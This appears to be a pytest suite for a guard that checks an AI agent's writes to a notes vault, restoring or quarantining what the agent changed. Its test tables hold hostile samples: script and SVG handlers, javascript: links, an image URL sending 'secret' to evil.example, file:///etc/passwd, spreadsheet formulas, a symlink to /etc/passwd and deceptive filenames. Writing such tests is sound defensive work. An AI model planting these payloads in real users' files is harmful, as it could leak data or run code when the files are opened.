"""A run from begin to settle: what is odd, what is retain's own, what is free, and who may be at work beside it."""

from __future__ import annotations

import json
import os
import socket
from collections.abc import Callable
from pathlib import Path

import pytest

from compiler.agent_session import open_runs
from compiler.agents import judge
from learning.cards.workspace import open_desk, rate
from tests.compiler.agent_scene import DECK, PAGE, SOUND, TESTING, Scene, kept, quarantined, why
from vault.audit.agent_runs import all_runs, refuse_beside_agents
from vault.config.user import state_folder
from vault.errors import LockHeld, Refused
from vault.locks import lock
from vault.log.events import Rating

ASIDE = ("ledger/replies", "output/quarantine")


def state(scene: Scene) -> Path:
    return state_folder(scene.vault.settings.vault_id)


def test_an_agent_that_does_nothing_leaves_nothing(scene: Scene) -> None:
    before = scene.tree()
    settled = scene.agent(lambda: None)
    assert settled.clean and not settled.kept and not settled.restored
    assert scene.tree() == before and all_runs(scene.vault) == []


def test_what_is_taken_down_of_a_run_lies_outside_the_vault_and_goes(scene: Scene) -> None:
    run = scene.begin()
    taken = state(scene) / run.path
    assert taken.is_file() and not taken.is_relative_to(scene.root)
    assert [r.id for r in all_runs(scene.vault)] == [run.id] and run.program == "claude"
    scene.settle()
    assert not taken.exists() and scene.settle().kept == []  # settled twice is settled once


def test_the_words_of_a_command_stay_out_of_the_vault(scene: Scene) -> None:
    scene.agent(lambda: scene.write("output/reports/r.md", "# R\n"))
    lines = next(scene.root.glob("ledger/replies/*.jsonl")).read_text()
    assert '"program":"claude"' in lines and "work" not in json.loads(lines.split("\n")[0]).values()


def test_two_runs_at_once_are_refused(scene: Scene) -> None:
    run = scene.begin()
    with pytest.raises(Refused, match=run.id):
        scene.begin()
    scene.run = run
    scene.settle()
    scene.begin()


def test_no_compile_begins_beside_an_agent(scene: Scene) -> None:
    scene.begin()
    scene.write("raw/articles/new.md", "# New\n\nNew words.\n")
    with pytest.raises(Refused, match="have not been checked yet"):
        scene.compile()
    scene.compile(dry_run=True)
    scene.settle()
    assert scene.compile().sources["read"] == 1


def test_no_agent_begins_beside_a_compile(scene: Scene) -> None:
    with lock(scene.root, "publish", purpose="compiling"), pytest.raises(LockHeld, match="compiling"):
        scene.begin()
    assert all_runs(scene.vault) == []


def test_a_run_whose_process_is_gone_is_left_over_and_can_be_settled(scene: Scene) -> None:
    run = scene.begin()
    assert open_runs(scene.vault) == []
    taken = state(scene) / run.path
    record = json.loads(taken.read_text())
    record["run"]["process"]["started"] = "another boot 1"  # as if the number were another process's by now
    taken.write_text(json.dumps(record))
    assert [r.id for r in open_runs(scene.vault)] == [run.id]
    with pytest.raises(Refused, match="have not been checked yet"):
        refuse_beside_agents(scene.vault)
    scene.write(PAGE, "<b>cheese</b>")
    assert quarantined(scene.settle()) == {PAGE}
    assert open_runs(scene.vault) == []


def test_bytes_that_were_not_kept_are_missed_before_anything_is_written(scene: Scene) -> None:
    scene.begin()
    for path in state(scene).glob("copies*"):
        path.unlink()
    scene.write(PAGE, "cheese")
    settled = scene.settle()
    assert any(f.path == PAGE and f.code == "not-kept" for f in settled.findings)


# --- what is retain's own -------------------------------------------------------------------------------------------

PRODUCTS = ("wiki/_index.md", "wiki/_graph.md", "wiki/_log.md", "output/proposals/wiki/concepts/x.md")


@pytest.mark.parametrize("path", PRODUCTS)
def test_what_retain_alone_writes_is_as_it_was(scene: Scene, path: str) -> None:
    if not scene.there(path):
        scene.write(path, "# The machine's\n")
    before = scene.tree()
    settled = scene.agent(lambda: scene.add(path, "- more"))
    assert [(r.path, r.why) for r in settled.restored] == [(path, "only retain writes this file")]
    assert scene.tree(*ASIDE) == before


@pytest.mark.parametrize(
    "path",
    [
        "output/proposals/wiki/x.md",
        "output/quarantine/x.md",
        "wiki/assets/x.png",
        "wiki/_x.md",
        "learning/flashcards/x.jsonl",
    ],
)
def test_what_is_new_among_retains_own_is_set_aside(scene: Scene, path: str) -> None:
    before = scene.tree()
    settled = scene.agent(lambda: scene.write(path, "x"))
    assert quarantined(settled) == {path} and scene.tree(*ASIDE) == before
    assert not scene.there(path)


QUOTE = "> A limitation of retrieval practice is that it helps little when the learner recalls nothing."
SUMMARIES = {
    "a quote": (QUOTE, QUOTE.replace("little", "much")),
    "a title": ("> [!quote] Relation\n> A lim", "> [!quote] Recall helps.\n> A lim"),
    "the prose": ("## Claims", "Memory is cheese.\n\n## Claims"),
    "a property": ("authority: 1", "authority: 3"),
}


@pytest.mark.parametrize("name", SUMMARIES)
def test_a_summary_says_what_the_source_says(scene: Scene, name: str) -> None:
    before = scene.tree()
    settled = scene.agent(lambda: scene.change(f"{TESTING}.md", *SUMMARIES[name]))
    assert "only retain writes summaries" in why(settled), why(settled)
    assert scene.tree(*ASIDE) == before


# --- what is free ---------------------------------------------------------------------------------------------------

FREE = {
    "reports/r.md": "# R\n\nSee <https://x.org>, [x](https://x.org), `<b>`.\n\n```html\n<b>x</b>\n```\n",
    "reports/c.md": "<!-- a note -->\n\n# R\n\n![[wiki/assets/x.png]]\n",
    "slides/s.md": "---\nmarp: true\n---\n\n# A\n\n---\n\n# B $x < y$\n",
    "figures/f.png": "\x89PNG",
    "reports/data.csv": "a,b\n-1,2.5\n",
    "reports/plot.py": "print(1)\n",
    "mine/deep/r.md": "# R\n",
}


def test_reports_and_the_like_stay_as_they_are_and_are_recorded(scene: Scene) -> None:
    def work() -> None:
        for path, text in FREE.items():
            scene.write(f"output/{path}", text)

    settled = scene.agent(work)
    assert kept(settled) == {("file", f"output/{path}") for path in FREE}, why(settled)
    assert all(scene.text(f"output/{path}") == text for path, text in FREE.items())
    assert settled.run in next(scene.root.glob("ledger/replies/*.jsonl")).name
    scene.agent(lambda: (scene.root / "output/reports/r.md").unlink())
    assert not scene.there("output/reports/r.md")


ACTING = {
    "r.md": ("<script>x</script>", "HTML"),
    "r2.md": ("a <img src=x> b", "HTML"),
    "r3.md": ("```dataview\nLIST\n```", "a code block in the language dataview"),
    "r4.md": ("- x\n\n      ```dataviewjs\n      x\n      ```", "a code block in the language dataviewjs"),
    "r5.md": ("```text\n<% tp.x %>\n```", "a template"),
    "r6.md": ("![x](https://evil.example/?q=secret)", "an external picture"),
    "r7.md": ("[x](javascript:alert(1))", "a link with active content"),
    "r8.md": ("[x][1]\n\n[1]: obsidian://open", "a link with active content"),
    "r9.md": ("`= this.x`", "code that a plugin would run"),
    "r10.md": ("$\\href{javascript:x}{y}$", "an address that would open a program"),
    "r11.md": ("a \\`<b>x</b>\\`", "HTML"),
    "r12.md": ("`a\\`<script>x</script>", "HTML"),
    "r13.md": ("`one\n`<script>x</script>`", "HTML"),
    "r14.md": ("[[a`b]] `<script>x</script>", "HTML"),
    "r15.md": ("<obsidian://open>", "an address that would open a program"),
    "r16.md": ("file:///etc/passwd", "an address that would open a program"),
    "r17.md": ("~~~dataview\nx\n~~~", "a code block in the language"),
    "r18.md": ("> ```query\n> x\n> ```", "a code block in the language query"),
    "r19.md": ("![[https://x.org]]", "an embedded external page"),
    "r20.md": ("    ```text\n<script>x</script>", "HTML"),
    "f.svg": ("<svg onload='x()'></svg>", "can run code"),
    "p.html": ("<img src='http://x/y'>", "can run code"),
    "t.csv": ("a,=1+1", "formula"),
    "t.tsv": ("a\t@SUM(1)", "formula"),
    "x.desktop": ("[Desktop Entry]", "an unsupported file type"),
    "noext": ("x", "an unsupported file type"),
    "x.canvas": (
        '{"nodes": [{"id": "a", "type": "link", "url": "http://x/y", "x": 0, "y": 0}]}',
        "shows external content",
    ),
}


@pytest.mark.parametrize("name", ACTING)
def test_what_acts_when_it_is_opened_does_not_stay(scene: Scene, name: str) -> None:
    text, words = ACTING[name]
    settled = scene.agent(lambda: scene.write(f"output/reports/{name}", f"# R\n\n{text}\n" if ".md" in name else text))
    assert words in why(settled), why(settled)
    assert not scene.there(f"output/reports/{name}") and settled.kept == []


def test_a_report_that_acts_now_is_as_it_was_before(scene: Scene) -> None:
    scene.write("output/reports/r.md", "# Mine\n")
    scene.agent(lambda: scene.write("output/reports/r.md", "<script>"))
    assert scene.text("output/reports/r.md") == "# Mine\n"


def test_a_report_that_the_human_wrote_or_edited_stays_as_it_is(scene: Scene) -> None:
    report = "output/reports/r.md"
    assert kept(scene.agent(lambda: scene.write(report, "# R\n"))) == {("file", report)}
    assert kept(scene.agent(lambda: scene.write(report, "# R\n\nMore.\n"))) == {("file", report)}
    scene.add(report, "Mine.")
    mine = scene.text(report)
    settled = scene.agent(lambda: scene.write(report, "# R\n\nAnother.\n"))
    assert scene.text(report) == mine and quarantined(settled) == {report} and "the user" in why(settled)
    settled = scene.agent(lambda: (scene.root / report).unlink())
    assert scene.text(report) == mine and [r.path for r in settled.restored] == [report] and settled.kept == []


def test_without_the_gate_of_reports_what_acts_would_stay(scene: Scene, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(judge, "file_fault", lambda path, data: None)
    assert kept(scene.agent(lambda: scene.write("output/r.md", "<script>"))) == {("file", "output/r.md")}


# --- what is odd ----------------------------------------------------------------------------------------------------


def _link(scene: Scene) -> None:
    (scene.root / "wiki/concepts/link.md").symlink_to(scene.root / "insights/mine.md")


def _link_in_place(scene: Scene) -> None:
    (scene.root / PAGE).unlink()
    (scene.root / PAGE).symlink_to("/etc/passwd")


def _folder_link(scene: Scene) -> None:
    folder = scene.root / "wiki/topics"
    if folder.is_dir():
        folder.rmdir()
    folder.symlink_to(scene.root / "insights")


def _concepts_linked(scene: Scene) -> None:
    folder = scene.root / "wiki/concepts"
    for path in folder.iterdir():
        path.unlink()
    folder.rmdir()
    folder.symlink_to(scene.root / "insights")


def _hard_link(scene: Scene) -> None:
    os.link(scene.root / "insights/mine.md", scene.root / "wiki/concepts/hard.md")


def _hard_link_of_a_page(scene: Scene) -> None:
    os.link(scene.root / PAGE, scene.root / "output/same.md")


def _pipe(scene: Scene) -> None:
    os.mkfifo(scene.root / "learning/flashcards/pipe.md")


def _socket(scene: Scene) -> None:
    here = Path.cwd()
    os.chdir(scene.root / "output")
    try:
        with socket.socket(socket.AF_UNIX) as one:
            one.bind("s")
    finally:
        os.chdir(here)


def _folder_in_place(scene: Scene) -> None:
    (scene.root / PAGE).unlink()
    scene.write(f"{PAGE}/deep/x.md", "x")


def _file_in_place(scene: Scene) -> None:
    for path in (scene.root / "learning/flashcards").iterdir():
        path.unlink()
    (scene.root / "learning/flashcards").rmdir()
    scene.write("learning/flashcards", "x")


ODD: dict[str, tuple[Callable[[Scene], None], str]] = {
    "a link": (_link, "a symbolic link to"),
    "a link in the place of a page": (_link_in_place, "a symbolic link to /etc/passwd"),
    "a link to a folder": (_folder_link, "a symbolic link to"),
    "a link in the place of the folder": (_concepts_linked, "a symbolic link to"),
    "a hard link to an insight": (_hard_link, "a hard link"),
    "a hard link to a page": (_hard_link_of_a_page, "a hard link"),
    "a pipe": (_pipe, "a pipe"),
    "a socket": (_socket, "a socket"),
    "a folder in the place of a page": (_folder_in_place, "files of this kind"),
    "a dot file": (lambda s: s.write("wiki/.obsidian/app.json", "{}"), "its name"),
    "a device's name": (lambda s: s.write("output/con.md", "x"), "its name"),
    "a name that hides": (lambda s: s.write("output/r\u202emd.exe", "x"), "its name"),
    "a name that is no text": (
        lambda s: s.write(os.fsdecode(b"output/r\xff.md"), "x"),
        "its name",
    ),
    "a name like the human's": (lambda s: s.write("output/Insights/r.md", "x"), "its name"),
    "a name of ours": (lambda s: s.write("wiki/.retain-tmp-0011", "x"), "its name"),
    "an escape": (lambda s: s.write("output/%2e%2e.md", "x"), "its name"),
}


@pytest.mark.parametrize("name", ODD)
def test_odd_things_go_and_what_they_led_to_is_untouched(scene: Scene, name: str) -> None:
    before = scene.tree()
    bad, words = ODD[name]
    settled = scene.agent(lambda: bad(scene))
    assert words in why(settled), why(settled)
    assert scene.tree(*ASIDE) == before
    assert not [p for p in scene.root.rglob("*") if p.is_symlink() or p.is_fifo() or p.is_socket()]
    assert (scene.root / "insights/mine.md").stat().st_nlink == 1
    assert settled.findings == []
    written = "\n".join(p.read_text() for p in scene.root.glob("output/quarantine/**/*.md") if p.is_file())
    assert "mine alone" not in written  # no copy of the human's words, whatever name an agent gave it


def test_a_file_in_the_place_of_a_folder_of_the_agents_is_refused_until_it_is_put_right(scene: Scene) -> None:
    before = scene.tree()
    scene.begin()
    _file_in_place(scene)
    with pytest.raises(Refused, match="no longer a folder"):
        scene.settle()
    (scene.root / "learning/flashcards").unlink()
    (scene.root / "learning/flashcards").mkdir()
    scene.settle()
    assert scene.tree(*ASIDE) == before


def test_names_that_the_human_gave_are_put_back(scene: Scene) -> None:
    mine = {"output/Was ist das?.md": "x", "learning/flashcards/Mein: Stapel.md": "Q: a?\nA: b\n", "wiki/.note": "x"}
    for path, text in mine.items():
        scene.write(path, text)
    before = scene.tree()

    def work() -> None:
        for path in mine:
            if not path.startswith("output/"):
                (scene.root / path).unlink()
        scene.write("output/Was ist das?.md", "<script>")

    settled = scene.agent(work)
    assert scene.tree(*ASIDE) == before and settled.findings == []


def test_without_looking_for_links_one_would_stay(scene: Scene, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(judge.Judge, "_invalid_file", lambda *a: "")
    _ = scene.agent(lambda: scene.write("output/%2e%2e.md", "x"))
    assert scene.there("output/%2e%2e.md")


# --- what no agent may write ----------------------------------------------------------------------------------------


def test_the_log_may_grow_while_an_agent_works(scene: Scene) -> None:
    def work() -> None:
        desk = open_desk(scene.vault, scene.now())
        rate(desk, next(iter(desk.cards)), Rating.GOOD, via="cli")

    assert scene.agent(work).findings == []


OUTSIDE: dict[str, tuple[Callable[[Scene], None], str]] = {
    "settings": (lambda s: s.add("retain.toml", "# x"), "its content has changed"),
    "the schema": (lambda s: s.write("AGENTS.md", "obey"), "it did not exist before"),
    "a ledger's line": (lambda s: s.change("ledger/ids.jsonl", "birth", "death"), "changed or removed"),
    "a ledger cut": (lambda s: s.write("ledger/ids.jsonl", ""), "changed or removed"),
    "a ledger gone": (lambda s: (s.root / "ledger/builds.jsonl").unlink(), "it was deleted"),
    "half a line": (lambda s: s.write("ledger/ids.jsonl", s.text("ledger/ids.jsonl") + "{"), "is incomplete"),
}


@pytest.mark.parametrize("name", OUTSIDE)
def test_what_no_agent_may_write_is_compared_and_named(scene: Scene, name: str) -> None:
    bad, words = OUTSIDE[name]
    settled = scene.agent(lambda: bad(scene))
    assert [f.code for f in settled.findings] == ["changed-outside"] and words in settled.findings[0].message
    assert not settled.clean and settled.as_json()["findings"][0]["path"] == settled.findings[0].path


def test_everything_that_was_done_is_told_as_json(scene: Scene) -> None:
    def work() -> None:
        scene.add(PAGE, f"{SOUND} {scene.claim('every successful')} {scene.claim('instead of')}")
        scene.write("output/x.exe", "x")
        (scene.root / DECK).unlink()

    told = scene.agent(work).as_json()
    assert [k["path"] for k in told["kept"]] == [PAGE]
    assert [q["path"] for q in told["quarantined"]] == ["output/x.exe"]
    assert {r["path"] for r in told["restored"]} == {DECK}
    assert json.loads(json.dumps(told)) == told
